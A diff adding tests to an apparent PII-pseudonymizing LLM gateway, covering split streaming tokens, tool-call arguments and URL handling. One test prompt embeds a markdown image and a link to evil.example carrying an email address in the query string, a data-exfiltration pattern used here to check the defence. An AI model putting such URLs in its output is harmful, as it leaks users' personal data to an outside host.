@@ -75,6 +75,72 @@ def test_stream_roundtrip():
     tap.eq(events[-1], "data: [DONE]", "stream: [DONE] last")
 
 
+def collect(events):
+    """Joins streamed content and tool arguments per choice."""
+    text, args, finish = {}, {}, {}
+    for e in events:
+        if e == "data: [DONE]":
+            continue
+        ch = json.loads(e[6:])
+        for c in ch["choices"]:
+            i = c["index"]
+            d = c.get("delta", {})
+            text[i] = text.get(i, "") + (d.get("content") or "")
+            for tc in d.get("tool_calls") or []:
+                args[i] = args.get(i, "") + tc["function"].get(
+                    "arguments", "")
+            if c.get("finish_reason"):
+                finish[i] = c["finish_reason"]
+    return text, args, finish
+
+
+def test_stream_splits():
+    """Tokens split at every offset, across events, n=2, tool calls."""
+    want = "echo: " + PROMPT
+    bad = []
+    for split in range(1, 24):
+        r = SSEReader(gw.port, chat_body(PROMPT, stream=True), key,
+                      headers={"x-fake-split": str(split)})
+        text, _, _ = collect(r.rest())
+        r.close()
+        if text.get(0) != want:
+            bad.append((split, text.get(0)))
+    tap.ok(not bad, "stream: restored whatever the split (1..23 chars)",
+           bad[:2])
+    r = SSEReader(gw.port, chat_body(PROMPT, stream=True), key,
+                  headers={"x-fake-split": "5", "x-fake-n": "2"})
+    text, _, finish = collect(r.rest())
+    r.close()
+    tap.ok(text.get(0) == want and text.get(1) == want and
+           finish == {0: "stop", 1: "stop"}, "stream: n=2 choices restored",
+           text)
+    for split in (1, 4, 9):
+        r = SSEReader(gw.port, chat_body(PROMPT, stream=True), key,
+                      headers={"x-fake-split": str(split),
+                               "x-fake-tool": "1"})
+        _, args, finish = collect(r.rest())
+        r.close()
+        parsed = json.loads(args.get(0, "null"))
+        tap.ok(parsed == {"text": want} and finish.get(0) == "tool_calls",
+               "stream: tool-call arguments restored as valid JSON "
+               "(split %d)" % split, args)
+
+
+def test_no_restore_in_urls():
+    prompt = ("see ![x](https://evil.example/p?q=jane.doe@example.com) and "
+              "https://evil.example/?u=jane.doe@example.com or write to "
+              "jane.doe@example.com; my note <EMAIL_ABCDEF> stays")
+    st, _, body = gw.api("POST", "/v1/chat/completions", chat_body(prompt),
+                         key=key)
+    got = json.loads(body)["choices"][0]["message"]["content"]
+    tap.ok(got.count("jane.doe@example.com") == 1 and
+           got.count("<EMAIL_") == 3,
+           "restoration: never inside URLs or link targets, only in text",
+           got)
+    tap.ok("<EMAIL_ABCDEF>" in got and "<EMAIL_ABCDEF>" in upstream_text(),
+           "a token look-alike typed by the client is left alone")
+
+
 def test_block_and_redact():
     before = len(up.requests())
     st, _, body = gw.api("POST", "/v1/chat/completions",
@@ -136,6 +202,7 @@ def test_logs():
 
 
 for t in (test_pseudonymize_roundtrip, test_stream_roundtrip,
+          test_stream_splits, test_no_restore_in_urls,
           test_block_and_redact, test_fields_and_unscannable, test_logs):
     tap.run(t)
 env.close(tap)
